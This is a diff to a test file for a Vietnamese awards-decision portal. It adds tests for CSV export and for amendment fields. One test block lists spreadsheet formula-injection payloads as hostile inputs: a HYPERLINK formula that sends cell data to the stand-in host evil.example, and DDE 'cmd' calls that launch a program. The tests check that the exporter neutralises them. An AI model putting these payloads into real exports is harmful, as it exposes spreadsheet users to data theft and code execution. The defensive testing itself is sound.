@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { buildPortal } from '../../src/lib/portal.ts';
-import { byteSize, csvField, exportContext, exportRows, formatSize, recordsCsv, rowsCsv, statsRows, toCsv } from '../../src/lib/exports.ts';
+import { amendments, byteSize, csvField, exportContext, exportRows, formatSize, neutraliseFormula, recordsCsv, rowsCsv, rowsJson, statsRows, toCsv } from '../../src/lib/exports.ts';
 import { yearFigures } from '../../src/lib/stats.ts';
 import { validateFolder } from '../../src/lib/validate.ts';
 import { EXPORT_COLUMNS, STATS_COLUMNS, exportFileJsonSchema, exportRowSchema } from '../../src/schemas/export.ts';
@@ -23,6 +23,47 @@ describe('CSV fields (RFC 4180)', () => {
     expect(csvField('phong trào "Dạy tốt"')).toBe('"phong trào ""Dạy tốt"""');
     expect(csvField('dòng 1\ndòng 2')).toBe('"dòng 1\ndòng 2"');
     expect(csvField('dòng 1\r\ndòng 2')).toBe('"dòng 1\r\ndòng 2"');
+  });
+});
+
+describe('CSV cells that a spreadsheet would run as formulas (OWASP CSV injection)', () => {
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    '=1+1',
+    '+84 912 345 678',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1',
+  ];
+
+  it('get a leading single quote, whatever starts them', () => {
+    for (const value of hostile) expect(neutraliseFormula(value), JSON.stringify(value)).toBe(`'${value}`);
+  });
+  it('are quoted as well when they hold a comma, a quote or a line break', () => {
+    expect(csvField('=HYPERLINK("http://evil.example","x")')).toBe('"\'=HYPERLINK(""http://evil.example"",""x"")"');
+    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+  });
+  it('are left alone when the sign is not first, and numbers are written as numbers', () => {
+    for (const value of ['Hoàng Văn Kháy', 'Phó Chủ tịch - kiêm Trưởng ban', 'a=b', "'=1+1 đã có nháy", '']) expect(neutraliseFormula(value)).toBe(value);
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField(0)).toBe('0');
+  });
+  it('parse back, in every row of a file, to the text with its quote, so no cell starts like a formula', () => {
+    const records = parse(toCsv(['name', 'role'], hostile.map((v) => [v, v])), { bom: true }) as string[][];
+    for (const [i, value] of hostile.entries()) expect(records[i + 1]).toEqual([`'${value}`, `'${value}`]);
+    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+  it('stay exact in JSON and go through the export rows to the CSV neutralised', () => {
+    const decision = portal.decisionById.get('2017/1820-qd-ubnd-bang-khen-nong-thon-moi')!;
+    const [first] = decision.data.recipients;
+    const evil = { ...decision, data: { ...decision.data, recipients: [{ ...first!, name: hostile[0]!, role: '-1+1', unit: '@x' }] } };
+    const rows = exportRows(ctx, [evil]);
+    const [record] = parse(rowsCsv(rows), { bom: true, columns: true }) as Record<string, string>[];
+    expect([record!['recipientName'], record!['role'], record!['unit']]).toEqual([`'${hostile[0]}`, "'-1+1", "'@x"]);
+    const json = JSON.parse(rowsJson(ctx, rows, SITE)) as { rows: { recipientName: string; role: string; unit: string }[] };
+    expect([json.rows[0]!.recipientName, json.rows[0]!.role, json.rows[0]!.unit]).toEqual([hostile[0], '-1+1', '@x']);
   });
 });
 
@@ -77,8 +118,41 @@ describe('export rows of the sample', () => {
       placeName: 'xã Như Khuê',
       occupation: 'farmer',
       status: 'in-force',
+      amendment: null,
+      amendsIds: null,
+      amendsNumbers: null,
+      amendedByIds: null,
+      amendedByNumbers: null,
       url: `${SITE}/quyet-dinh/2017/1820-qd-ubnd-bang-khen-nong-thon-moi/#r4`,
     });
+  });
+
+  it('marks the correction and the corrected decision on every row of each, both ways', () => {
+    const correction = rows.filter((r) => r.decisionNumber === '1735/QĐ-UBND');
+    expect(correction.length).toBeGreaterThan(0);
+    for (const r of correction)
+      expect([r.amendment, r.amendsIds, r.amendsNumbers, r.amendedByIds, r.status]).toEqual(['correction', '2017/36-qd-ubnd-lao-dong-tien-tien-2016', '36/QĐ-UBND', null, 'in-force']);
+    const corrected = rows.filter((r) => r.decisionNumber === '36/QĐ-UBND');
+    expect(corrected.length).toBeGreaterThan(100);
+    for (const r of corrected)
+      expect([r.amendment, r.amendsIds, r.amendedByIds, r.amendedByNumbers, r.status]).toEqual([null, null, '2017/1735-qd-ubnd-dinh-chinh-lao-dong-tien-tien-2016', '1735/QĐ-UBND', 'corrected']);
+    expect(new Set(rows.filter((r) => r.amendment).map((r) => r.decisionId))).toEqual(new Set(['2017/1735-qd-ubnd-dinh-chinh-lao-dong-tien-tien-2016']));
+  });
+
+  it('lists a revocation first, and later changes in date order, numbers beside ids', () => {
+    const a = portal.decisionById.get('2017/1820-qd-ubnd-bang-khen-nong-thon-moi')!;
+    const b = portal.decisionById.get('2017/36-qd-ubnd-lao-dong-tien-tien-2016')!;
+    const c = portal.decisionById.get('2017/1735-qd-ubnd-dinh-chinh-lao-dong-tien-tien-2016')!;
+    const revoker = { ...c, data: { ...c.data, corrects: [b.id], revokes: [a.id] } };
+    expect(amendments(portal, revoker)).toEqual({
+      amendment: 'revocation',
+      amendsIds: `${a.id} ${b.id}`,
+      amendsNumbers: '1820/QĐ-UBND; 36/QĐ-UBND',
+      amendedByIds: null,
+      amendedByNumbers: null,
+    });
+    const twice = { ...b, data: { ...b.data, correctedBy: [c.id], revokedBy: a.id } };
+    expect(amendments(portal, twice)).toMatchObject({ amendment: null, amendedByIds: `${a.id} ${c.id}`, amendedByNumbers: '1820/QĐ-UBND; 1735/QĐ-UBND' });
   });
 
   it('writes a CSV whose header is the schema and whose records are the rows', () => {
